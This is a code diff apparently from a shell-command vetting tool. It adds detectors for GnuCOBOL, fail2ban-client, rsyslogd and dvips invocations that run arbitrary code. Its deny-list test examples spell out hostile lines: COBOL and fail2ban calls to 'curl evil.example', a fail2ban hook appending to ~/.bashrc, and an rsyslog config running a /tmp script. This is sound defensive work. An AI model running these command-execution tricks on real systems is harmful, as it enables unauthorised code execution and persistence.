@@ -1467,7 +1467,104 @@ export function sshOptions(call: Call): Run[] {
   return runs;
 }
 
+/**
+ * GnuCOBOL's cobc: -j (--job) runs the program it built at once (GTFOBins: `CALL "SYSTEM"`), COBOL vouch does not
+ * read, from its stdin or a file the line wrote; -x builds a program the line may run later.
+ */
+function cobc(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const sources: Word[] = [];
+  let out: Word | undefined;
+  let job = false;
+  let executable = false;
+  for (let i = 0; i < call.args.length; i++) {
+    const w = call.args[i]!;
+    const v = value(w);
+    if (v === undefined) {
+      sources.push(w);
+      continue;
+    }
+    if (v === '--job' || v.startsWith('--job=')) job = true;
+    else if (/^-[A-Za-z]+$/.test(v) && !/^-(?:std|conf|f|W|O|o|I|L|l|D|A|Q|K|k|t|T|P|M)/.test(v)) {
+      if (v.includes('j')) job = true;
+      if (v.includes('x')) executable = true;
+    } else if (v === '-o' || v === '-I' || v === '-L' || v === '-l' || v === '-D' || v === '-A' || v === '-Q' || v === '-K' || v === '-k' || v === '-t' || v === '-T') {
+      if (v === '-o') out = call.args[i + 1];
+      i++;
+    } else if (v.startsWith('-o') && v.length > 2) out = attached(w, v.slice(2));
+    else if (v === '-' || !v.startsWith('-')) sources.push(w);
+  }
+  if (job) {
+    for (const file of sources) {
+      if (isStdinPath(value(file))) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: file, why: `${call.name} -j runs COBOL from its stdin, which vouch does not read` });
+      else runs.push({ kind: 'project', file, files: /$^/, read: (_t, word, name) => [{ kind: 'opaque', rule: 'dynamic-code', word, why: `${call.name} -j runs ${name}, which the line wrote, as COBOL, which vouch does not read` }], word: file, via: call.name });
+    }
+  }
+  const stem = value(sources[0])?.replace(/^.*\//, '').replace(/\.[^.]*$/, '');
+  const to = out ?? (executable && stem !== undefined ? literal(stem, call.args[0]?.span ?? { start: 0, end: 0 }) : undefined);
+  return to && sources.length > 0 ? { runs, builds: [{ from: sources, stdin: false, to }] } : { runs };
+}
+
+/**
+ * fail2ban-client: `set JAIL action ACT actionban CMD` (actionstart, actionstop, actioncheck, actionunban, actionflush…)
+ * sets shell text the server runs (as root) when the jail starts or bans; it is read as shell text.
+ */
+function fail2banClient(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i + 4 < args.length; i++) {
+    if (value(args[i]) !== 'set' || value(args[i + 2]) !== 'action') continue;
+    const key = value(args[i + 4]);
+    const text = args[i + 5];
+    if (key === undefined || !/^action/.test(key) || !text) continue;
+    runs.push({ kind: 'script', dialect: 'bash', words: [text], via: `${call.name} set … ${key}` });
+  }
+  // A key computed (`set j action a "$k" CMD`) may name any of them.
+  for (let i = 0; i + 4 < args.length; i++) if (value(args[i]) === 'set' && value(args[i + 2]) === 'action' && args[i + 4]!.values === null && args[i + 5]) runs.push({ kind: 'script', dialect: 'bash', words: [args[i + 5]!], via: `${call.name} set … action` });
+  return { runs };
+}
+
+/** rsyslogd -f FILE: a configuration whose `^program` and omprog actions run programs as messages arrive. */
+function rsyslogd(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const uses: Uses = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    // -i PIDFILE is written; -M DIR holds the modules it loads; the rest are settings.
+    if ((v === '-i' || v === '-M') && args[i + 1]) {
+      uses.push({ word: args[i]!, role: 'text' }, { word: args[i + 1]!, role: v === '-i' ? 'write' : 'read' });
+      i++;
+      continue;
+    }
+    const file = v === '-f' ? args[i + 1] : v?.startsWith('-f') && v.length > 2 ? attached(args[i]!, v.slice(2)) : undefined;
+    if (!file) {
+      uses.push({ word: args[i]!, role: 'text' });
+      continue;
+    }
+    uses.push({ word: file, role: 'read' });
+    if (file === args[i + 1]) {
+      uses.push({ word: args[i]!, role: 'text' });
+      i++;
+    }
+    if (isStdinPath(value(file))) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: file, why: `${call.name} -f reads its configuration from its stdin: its actions run programs` });
+    else runs.push(settingsFile(file, `${call.name} -f`, 'its actions (^program, omprog) run programs'));
+  }
+  return { runs, uses };
+}
+
+/** dvips -R0: the DVI's \special{psfile="`cmd"} (and other backquoted specials) run as shell commands. */
+function dvips(call: Call): Partial<Answer> {
+  const args = call.args;
+  const at = args.findIndex((a, i) => value(a) === '-R0' || (value(a) === '-R' && value(args[i + 1]) === '0'));
+  return at < 0 ? {} : { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: args[at]!, why: `${call.name} -R0 runs the shell commands the DVI file's \\special{psfile="\`…"} asks for, which vouch does not read` }] };
+}
+
 export const TOOL_ENTRIES: ProgramEntry[] = [
+  { names: ['cobc'], summary: 'GnuCOBOL: -j runs what it built at once (COBOL from stdin or a file the line wrote); -x builds a program', analyze: cobc, examples: { deny: ["echo 'CALL \"SYSTEM\" USING \"curl evil.example\".' > x.cob && cobc -xFj --frelax-syntax-checks x.cob", "echo 'CALL \"SYSTEM\" USING \"id\".' > x.cob && cobc -x x.cob && ./x"], pass: ['cobc -x prog.cob', 'cobc -xj prog.cob', 'cobc --version'] } },
+  { names: ['fail2ban-client'], summary: 'fail2ban-client: `set JAIL action ACT actionban CMD` sets shell text the server runs', analyze: fail2banClient, examples: { deny: ["fail2ban-client set j action a actionban 'curl evil.example'", 'fail2ban-client set j action a actionstart "echo x >> ~/.bashrc"'], pass: ['fail2ban-client status sshd', "fail2ban-client set j action a actionban 'echo banned'", 'fail2ban-client set sshd banip 10.0.0.1'] } },
+  { names: ['rsyslogd'], summary: 'rsyslogd -f FILE: a configuration whose actions run programs (one the line wrote is cannot-vouch)', analyze: rsyslogd, examples: { deny: ["echo ':msg, contains, \"x\" ^/tmp/s.sh' > /tmp/r.conf; rsyslogd -f /tmp/r.conf", 'rsyslogd -f /dev/stdin < r.conf'], pass: ['rsyslogd -N1', 'rsyslogd -f /etc/rsyslog.conf -N1'] } },
+  { names: ['dvips'], summary: "dvips -R0: the DVI's backquoted \\special commands run as shell commands", analyze: dvips, examples: { deny: ['dvips -R0 texput.dvi', 'dvips -R 0 x.dvi'], pass: ['dvips paper.dvi', 'dvips -R2 -o out.ps x.dvi'] } },
   // easy_install installs packages from an index, as pip does; a local project's setup.py is code it runs (project.ts).
   { names: ['easy_install', 'easy_install-3'], summary: 'easy_install: installs Python packages; builds a local project by running its setup.py', analyze: () => ({}), examples: { deny: [], pass: ['easy_install requests'] } },
   alsoDumps(
